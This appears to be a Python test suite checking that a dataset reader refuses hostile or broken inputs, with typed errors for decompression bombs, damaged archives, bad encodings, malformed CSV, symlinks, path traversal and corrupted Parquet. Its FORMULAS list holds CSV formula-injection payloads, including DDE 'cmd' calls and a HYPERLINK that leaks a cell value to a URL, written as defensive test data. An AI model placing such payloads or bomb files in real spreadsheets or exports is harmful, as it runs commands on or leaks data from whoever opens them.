"""What somebody may send on purpose, or a broken export by accident: a typed error, nothing half accepted."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import tracemalloc
import zipfile
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pyarrow
import pytest
from datasets import Dataset as HuggingFaceDataset
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from activities.data.readers import read_rows, source_digest
from activities.data.readers.csv import is_formula
from assay.contracts.data import Source
from assay.contracts.errors import AssayError, InputRefused, NotFound

MakeRow = Callable[..., dict[str, Any]]
MakeSource = Callable[..., Source]
ALPACA = [{"instruction": f"Say {n}", "input": "", "output": f"It is {n}."} for n in range(20)]


def refusal(source: Source) -> InputRefused:
    with pytest.raises(InputRefused) as refused:
        list(read_rows(source, source_digest(source)))
    assert refused.value.remedy
    return refused.value


@pytest.fixture
def file(tmp_path: Path, source: MakeSource) -> Callable[..., Source]:
    """A source of a file of that name with these bytes."""

    def make(name: str, content: bytes, **terms: object) -> Source:
        (tmp_path / name).write_bytes(content)
        return source(b"", uri=str(tmp_path / name), **terms)

    return make


def test_a_line_of_a_hundred_megabytes_is_refused_in_little_memory(tmp_path: Path, source: MakeSource) -> None:
    with (tmp_path / "long.jsonl").open("wb") as file:
        file.write(b'{"id": "')
        for _ in range(100):
            file.write(b"x" * (1 << 20))
        file.write(b'"}\n')
    long = source(b"", uri=str(tmp_path / "long.jsonl"))
    tracemalloc.start()
    try:
        assert refusal(long).code == "ROW_TOO_LONG"
        assert tracemalloc.get_traced_memory()[1] < 8 << 20
    finally:
        tracemalloc.stop()


def pack_blanks(name: str, path: Path, megabytes: int = 64) -> None:
    """Many blank lines in few bytes."""
    with ExitStack() as open_files:
        if name == "zip":
            archive = open_files.enter_context(zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED))
            file: Any = open_files.enter_context(archive.open("rows.jsonl", "w"))
        elif name == "zstd":
            file = open_files.enter_context(pyarrow.CompressedOutputStream(str(path), "zstd"))
        else:
            file = open_files.enter_context({"gzip": gzip.open, "bzip2": bz2.open, "xz": lzma.open}[name](path, "wb"))
        for _ in range(megabytes):
            file.write(b" " * ((1 << 20) - 1) + b"\n")


@pytest.mark.parametrize("name", ["gzip", "bzip2", "xz", "zstd", "zip"])
def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, source: MakeSource, name: str) -> None:
    pack_blanks(name, path := tmp_path / "bomb.jsonl")
    tracemalloc.start()
    try:
        assert refusal(source(b"", uri=str(path))).code == "ARCHIVE_BOMB"
        # xz keeps a window of eight megabytes.
        assert tracemalloc.get_traced_memory()[1] < 16 << 20
    finally:
        tracemalloc.stop()


def test_a_parquet_file_that_unpacks_to_far_more_than_it_is_is_refused(tmp_path: Path, source: MakeSource) -> None:
    table = pyarrow.table({"instruction": ["x" * (1 << 25)], "output": ["y"]})
    parquet.write_table(
        table, tmp_path / "bomb.parquet", compression="zstd", use_dictionary=False, write_statistics=False
    )
    assert refusal(source(b"", uri=str(tmp_path / "bomb.parquet"))).code == "ARCHIVE_BOMB"


def damaged() -> dict[str, bytes]:
    lines = b"".join(json.dumps(row).encode() + b"\n" for row in ALPACA) * 50
    zip_ = io.BytesIO()
    with zipfile.ZipFile(zip_, "w") as archive:
        archive.writestr("a", lines)
        archive.writestr("b", lines)
    return {
        "gzip cut off": gzip.compress(lines)[:-20],
        "bzip2 cut off": bz2.compress(lines)[:-20],
        "xz cut off": lzma.compress(lines)[:-20],
        "zstd cut off": pyarrow.compress(lines, "zstd", asbytes=True)[:-20],
        "gzip with a flipped byte": gzip.compress(lines)[:60] + b"\xff" + gzip.compress(lines)[61:],
        "zip cut off": zip_.getvalue()[:-20],
        "zip with two members": zip_.getvalue(),
        "gzip that ends in something else": gzip.compress(lines) + b"more",
    }


@pytest.mark.parametrize("name", damaged())
def test_a_damaged_archive_is_refused(source: MakeSource, name: str) -> None:
    assert refusal(source(damaged()[name])).code == "ARCHIVE_MALFORMED"


ENCODINGS = {
    "utf-16": ("utf-16", "ENCODING_NOT_UTF8"),
    "utf-16 without a mark": ("utf-16-le", "CSV_MALFORMED"),
    "latin-1": ("latin-1", "ENCODING_NOT_UTF8"),
    "byte order mark": ("utf-8-sig", "ENCODING_NOT_UTF8"),
}


@pytest.mark.parametrize(("encoding", "code"), ENCODINGS.values(), ids=ENCODINGS.keys())
def test_a_csv_file_in_another_encoding_is_refused(file: MakeSource, encoding: str, code: str) -> None:
    assert refusal(file("rows.csv", "instruction,output\nSay é,It is é.\n".encode(encoding))).code == code


CSV_FAULTS = {
    "a NUL byte": (b"instruction,output\nSay,It\0 is\n", 2),
    "a column named twice": (b"output,output\n1,2\n", 1),
    "a column without a name": (b"instruction,\n1,2\n", 1),
    "a row that is too short": (b"instruction,output\n1,2\n1\n", 3),
    "a row that is too long": (b"instruction,output\n1,2,3\n", 2),
    "a quotation mark inside": (b'instruction,output\n1,"a"b\n', 2),
    "an open quotation mark": (b'instruction,output\n1,"a\n', 2),
}


@pytest.mark.parametrize(("content", "line"), CSV_FAULTS.values(), ids=CSV_FAULTS.keys())
def test_a_malformed_csv_file_is_refused_with_its_line(file: MakeSource, content: bytes, line: int) -> None:
    error = refusal(file("rows.csv", content))
    assert error.code == "CSV_MALFORMED"
    assert error.message.startswith(f"line {line} of source rows")


def test_a_cell_whose_quotes_stay_open_does_not_fill_memory(file: MakeSource) -> None:
    assert refusal(file("rows.csv", b'instruction,output\n1,"' + b"a\n" * (1 << 20))).code == "ROW_TOO_LONG"


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    " =cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-A1*B2",
    "\t=1",
    "\uff1d1+1",
    "--SUM(A1)",
    "+A1",
]
NO_FORMULAS = [
    "-5",
    "-5.2e3",
    "+49 30 901820",
    "- a list",
    "-5 %",
    "@ann look!",
    "--- title",
    "2+2=4",
    "a=b",
    "+1 from me",
    "",
    "-",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_refused_with_its_row(file: MakeSource, cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    error = refusal(file("rows.csv", f"instruction,output\nSay,It is.\nSay,{quoted}\n".encode()))
    assert error.code == "CSV_FORMULA"
    assert error.message.startswith("line 3 of source rows: cell 2")
    assert cell not in error.message


@pytest.mark.parametrize("cell", NO_FORMULAS)
def test_numbers_and_prose_are_no_formulas(cell: str) -> None:
    assert not is_formula(cell)


def test_a_link_to_a_file_is_refused(tmp_path: Path, source: MakeSource, row: MakeRow) -> None:
    plain = source([row()])
    (tmp_path / "link.jsonl").symlink_to(plain.uri)
    assert refusal(plain.model_copy(update={"uri": str(tmp_path / "link.jsonl")})).code == "SOURCE_SYMLINK"


@pytest.fixture
def saved(tmp_path: Path, source: MakeSource) -> Source:
    """A saved dataset."""
    HuggingFaceDataset.from_list(ALPACA).save_to_disk(tmp_path / "saved")
    return source(b"", uri=str(tmp_path / "saved"), format="hf-dataset")


def test_a_link_to_a_directory_is_refused(tmp_path: Path, saved: Source) -> None:
    (tmp_path / "link").symlink_to(saved.uri)
    assert refusal(saved.model_copy(update={"uri": str(tmp_path / "link")})).code == "SOURCE_SYMLINK"


def test_a_link_inside_a_directory_is_refused(tmp_path: Path, saved: Source) -> None:
    (data := next(Path(saved.uri).glob("*.arrow"))).rename(tmp_path / "elsewhere.arrow")
    data.symlink_to(tmp_path / "elsewhere.arrow")
    assert refusal(saved).code == "SOURCE_SYMLINK"


def test_a_directory_or_a_pipe_where_a_file_is_read_is_refused(tmp_path: Path, source: MakeSource) -> None:
    os.mkfifo(tmp_path / "pipe.jsonl")
    assert refusal(source(b"", uri=str(tmp_path / "pipe.jsonl"))).code == "SOURCE_NOT_A_FILE"
    assert refusal(source(b"", uri=str(tmp_path))).code == "SOURCE_NOT_A_FILE"


STATES = {
    "a path that leads out": '{"_data_files": [{"filename": "../elsewhere.arrow"}]}',
    "an absolute path": '{"_data_files": [{"filename": "/etc/hostname"}]}',
    "a file that is not there": '{"_data_files": [{"filename": "other.arrow"}]}',
    "no data files": "{}",
    "no object": "[]",
    "no JSON": "{",
    "a file that is no Arrow stream": '{"_data_files": [{"filename": "dataset_info.json"}]}',
    "selected rows": '{"_data_files": [{"filename": "data-00000-of-00001.arrow"}], "_indices_data_files": [{}]}',
}


@pytest.mark.parametrize("state", STATES.values(), ids=STATES.keys())
def test_a_directory_that_describes_itself_wrongly_is_refused(saved: Source, state: str) -> None:
    Path(saved.uri, "state.json").write_text(state)
    assert refusal(saved).code == "HF_DATASET_MALFORMED"


def test_an_arrow_stream_that_is_cut_off_is_refused(saved: Source) -> None:
    data = next(Path(saved.uri).glob("*.arrow"))
    data.write_bytes(data.read_bytes()[:-400])
    assert refusal(saved).code == "HF_DATASET_MALFORMED"


def test_a_parquet_file_that_is_cut_off_is_refused(tmp_path: Path, file: MakeSource) -> None:
    parquet.write_table(pyarrow.Table.from_pylist(ALPACA), tmp_path / "whole.parquet")
    whole = (tmp_path / "whole.parquet").read_bytes()
    for length in (0, 3, len(whole) // 2, len(whole) - 1):
        assert refusal(file("cut.parquet", whole[:length])).code == "PARQUET_MALFORMED"


def test_columns_that_are_no_text_are_refused(tmp_path: Path, source: MakeSource) -> None:
    table = pyarrow.table({"instruction": ["a"], "output": ["b"], "picture": [b"\x89PNG"]})
    parquet.write_table(table, tmp_path / "rows.parquet")
    assert refusal(source(b"", uri=str(tmp_path / "rows.parquet"))).code == "COLUMN_UNSUPPORTED"


def test_columns_that_are_nested_without_end_are_refused(tmp_path: Path, source: MakeSource) -> None:
    kind = pyarrow.string()
    for _ in range(40):
        kind = pyarrow.list_(kind)
    parquet.write_table(pyarrow.table({"deep": pyarrow.array([None], kind)}), tmp_path / "rows.parquet")
    assert refusal(source(b"", uri=str(tmp_path / "rows.parquet"))).code == "COLUMN_UNSUPPORTED"


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_a_parquet_file_with_flipped_bytes_is_read_or_refused(
    tmp_path_factory: pytest.TempPathFactory, source: MakeSource, data: st.DataObject
) -> None:
    path = tmp_path_factory.mktemp("flipped") / "rows.parquet"
    parquet.write_table(pyarrow.Table.from_pylist(ALPACA), path)
    whole = bytearray(path.read_bytes())
    for at in data.draw(st.lists(st.integers(0, len(whole) - 1), min_size=1, max_size=4)):
        whole[at] ^= data.draw(st.integers(1, 255))
    path.write_bytes(whole)
    flipped = source(b"", uri=str(path))
    try:
        list(read_rows(flipped, source_digest(flipped)))
    except AssayError as error:
        assert error.code  # noqa: PT017  # anything but an AssayError fails the test


def test_a_parquet_file_that_changes_while_it_is_read_is_refused(tmp_path: Path, source: MakeSource) -> None:
    parquet.write_table(pyarrow.Table.from_pylist(ALPACA), path := tmp_path / "rows.parquet")
    changing = source(b"", uri=str(path))
    rows = read_rows(changing, source_digest(changing))
    next(rows)
    # The same bytes in the end: what was read in between is not known.
    path.write_bytes(path.read_bytes())
    with pytest.raises(InputRefused, match="changed while it was read"):
        list(rows)


def test_a_line_that_is_appended_while_it_is_read_is_refused(source: MakeSource, row: MakeRow) -> None:
    growing = source([row(str(n)) for n in range(10)])
    rows = read_rows(growing, source_digest(growing))
    next(rows)
    with Path(growing.uri).open("ab") as file:
        file.write(json.dumps(row("more")).encode() + b"\n")
    with pytest.raises(InputRefused, match="changed while it was read"):
        list(rows)


def test_an_unreadable_file_is_said_to_be_unreadable(source: MakeSource) -> None:
    for uri in ("/nowhere/rows.parquet", "/nowhere/rows.csv", "/nowhere/saved/"):
        with pytest.raises(NotFound, match="cannot be read"):
            source_digest(source(b"", uri=uri))
